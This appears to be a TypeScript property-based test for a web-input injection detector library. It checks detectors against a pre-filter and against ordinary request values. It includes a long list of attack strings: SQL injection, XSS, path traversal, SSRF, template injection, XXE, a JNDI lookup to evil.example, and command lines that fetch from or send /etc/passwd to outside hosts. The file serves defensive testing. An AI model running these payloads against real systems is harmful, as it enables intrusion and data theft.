// Goal: what a detector is said to need, every text has in which it finds something: the pre-filter rules out nothing.
// Method: texts of the pieces that injections are made of and of cut attacks, from a seed that is printed; each detector is
// asked about each text and held against what its needs say. Then a check that the needs rule out what people write.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { detectors } from '../index.ts'
import { signsOf } from './index.ts'
import { needs } from './needs.ts'
import { pieces as words } from './words.ts'

const marks = Array.from('\'"`<>(){}[]$#;|&\\%:/.=@*\n\r\t\0-!?+~^,_ 0aZé\u00a0\u212a\uff0f')

const attacks = [
  "a' or 8=8--",
  '1/4"-1/ sleep 15\'x',
  "x') and 1 like 1 or ('a'='a",
  '4 union/**/select 1,2 from users where id in(1)',
  '-1 order by 12',
  "'; waitfor delay '0:0:9'--",
  '1 and extractvalue(1,concat(0x7e,user()))',
  '1-abs(2) or not null is null',
  '(case when 2=2 then 3 else 4 end)',
  '\'{"a":1}\'::jsonb - 1',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  'java\tscript:eval(name)',
  "';document.cookie;'",
  'document.location=name',
  '[][(![]+[])[+[]]]()',
  '\\u003cscript\\u003e',
  '&lt;script&gt;alert`1`',
  ';wget http://evil.example/x',
  'time curl evil.example',
  'cat /etc/passwd|nc 1.2.3.4 99',
  "w'h'oami",
  'Get-ChildItem -Path c:\\',
  'if not defined x y',
  'for /r %a in (x) do y',
  '/???/c?t /srv/x',
  '{wget,evil.example}',
  '..\\..\\windows\\win.ini',
  '..%c0%af..%2fetc%2fpasswd',
  'php://filter/convert.base64-encode/resource=index',
  '0x2e0x2e0x2fetc0x2fpasswd',
  '/.git/config',
  'index.php.bak~',
  'photo.php.jpg',
  'http://127.0.0.1:8500/v1',
  'gopher://shop.example:6379/_x',
  'localhost:80/latest/meta-data',
  '{{6*8}} ${6*8} <%= 6*8 %> #set($q=1) @(1+1)',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>',
  '+ADwAIQ-ENTITY a SYSTEM',
  'http://www.w3.org/2001/XInclude',
  "' || this.pw.length==8 || 'a'=='b",
  '{"$ne": 1} user[$gt]',
  'db.users.drop()',
  '*)(uid=*))(|(uid=*\\00',
  '<?php phpinfo(); $_GET[1]; O:3:"Foo":1:{}',
  'allow_url_include=1',
  'rO0ABXNyABFqYXZh',
  'java.lang.Runtime.getRuntime().exec',
  "process.mainModule.require('fs')",
  '__proto__[admin] constructor.prototype',
  'while(true);function(){} console.log(1)',
  '${${lower:j}ndi:ldap://evil.example/a}',
  'en\r\nSet-Cookie: a=b',
  'this.password.length==8',
  "' or 1 or '",
  "1' returning 1--",
  'a=alert,a(1)',
  "Function('x')()",
  'GLOBALS[x]',
  'print(md5(1));',
  "include 'http://evil.example/x'",
  '${sys:java.version}',
  '~/.ssh/id_rsa',
  '\\\\evil\\share',
  "x(require('fs').readdirSync('.'))",
  '-oProxyCommand=id',
  '--upload-pack=id',
  "=cmd|' /C calc'!A0",
  '$((1+1))',
  '[1].find(alert)',
  '<xsl:include href="http://evil.example/x.xsl"/>',
  '{{config}}',
  "{{ 'id'|system }}",
  '(objectClass=*)',
  'http://redis:6379/',
  '10.0.0.1\nid',
  '<!--#exec cmd="id" -->',
  '/u[s]r/b[i]n/x',
  'w{get,all} x',
  '~-/x',
  'which socat',
  'chef-shell all',
  'grid-proxy-init -q',
  'apt install nmap',
  'sbin/ifconfig',
  'rd/s x',
  'x\n. ~/y',
  "'nmap' all",
  'web-inf/x',
  'a\0.jpg',
  '..\x01%2%fx',
  '<a href="x',
  '--></title>]]>',
  '--!>{',
  '< s c r i p t',
  'x;onload=alert(1)',
  'onfocus=',
  "navigator.vibrate(9) location.href='//x'",
  "document.title='x'",
  'new Image().src=`x`',
  "with(document)x='y'",
  '$("a").on()',
  "b='c';",
  "';a.b=",
  "' in c.d=",
  '(()=>{x})()',
  '!function(){}()',
  '[].sort.call`${alert}`',
  "[]['constructor']('x')",
  'Reflect.apply(alert,1,[])',
  'newline;x #x6a;y #106;z',
  'x:expression(1) -moz-binding:y',
  '@import url(//x)',
  '+ADw-script+AD4-',
  'javascript: "vbscript:"',
  '<svg:rect x=1><a xmlns:b="http://www.w3.org/1999/xhtml">',
  'a__password__startswith b__has_key',
  'pg_trace ( __construct call_user_func cmd=system(id)',
  'java.x.ProcessBuilder org.apache.commons',
  'mem:x;INIT=RUNSCRIPT FROM 1&autoDeserialize=true',
  'x) ( &',
  '(',
  "mkdir('x') echo `id`; closure::fromcallable('system')",
  '{"constructor":{"prototype":{}}} {"__proto__":1}',
  "fs.readdirSync('x') execSync('id') process.cwd()",
  "require('vm') import('child_process')",
  '[=1*1]',
  '{{printf "x"}} {{_self.env}} #parse("x") %{#a=1}',
  '<!ELEMENT a ANY> <!DOCTYPE a [',
  '<xi:include href="x"/>',
  '${env:X_SECRET} ${k8s:x}',
  "'><b>",
  '1);alert(1);//',
  'throw~confirm`1`',
  "java\\script:'x'",
  '<a href="//x">',
  '<x @click=alert(1) ng-init=$event.view x-data=constructor>',
  '<style>a{b:c}',
] as const

const attack = fc.constantFrom(...attacks)
const cut = fc
  .tuple(attack, fc.nat(60), fc.nat(60))
  .map(([text, from, length]) => text.slice(from % text.length, (from % text.length) + length))
const piece = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...marks) },
  { weight: 3, arbitrary: fc.constantFrom(...words.map(([text]) => text)) },
  { weight: 1, arbitrary: cut },
  { weight: 1, arbitrary: fc.string({ maxLength: 4 }) },
)
const texts = fc.oneof(
  attack,
  cut,
  fc.array(piece, { maxLength: 9 }).map((parts) => parts.join('')),
  fc.array(piece, { maxLength: 9 }).map((parts) => parts.join(' ')),
  fc.tuple(cut, cut).map(([one, other]) => one + other.toUpperCase()),
)

test('no detector finds anything where its needs are not met', (t) => {
  const seed = 4_711
  t.diagnostic(`seed ${seed}`)
  const found = new Map<string, number>()
  fc.assert(
    fc.property(texts, (text) => {
      const signs = signsOf(text)
      for (const { name, test: finds } of detectors) {
        if (!finds(text)) continue
        found.set(name, (found.get(name) ?? 0) + 1)
        assert.ok(needs[name](signs), `${name} finds something in ${JSON.stringify(text)}`)
      }
    }),
    { numRuns: 12_000, seed },
  )
  // A detector that found nothing has shown nothing.
  assert.deepEqual(
    detectors.filter(({ name }) => (found.get(name) ?? 0) < 10).map(({ name }) => name),
    [],
  )
})

const plain: readonly string[] = [
  'en-US',
  'price_asc',
  'garden table winter',
  'k3j4h5g2x9',
  '129.50',
  '2026-06-10',
  'Müller',
  'same-origin',
]
test('what most requests consist of meets no costly need', () => {
  for (const text of plain) {
    const met = detectors.filter(({ name }) => needs[name](signsOf(text))).map(({ name }) => name)
    // A dot makes a name of a file of it, and what is not ASCII may be another's slash: these are soon read.
    const cheap = ['HiddenFile', 'ExecutableFile', 'PathTraversal', 'HeaderLines', 'CrossSiteScripting']
    assert.deepEqual(
      met.filter((name) => !cheap.includes(name)),
      [],
      text,
    )
  }
  assert.equal(plain.length, 8)
})
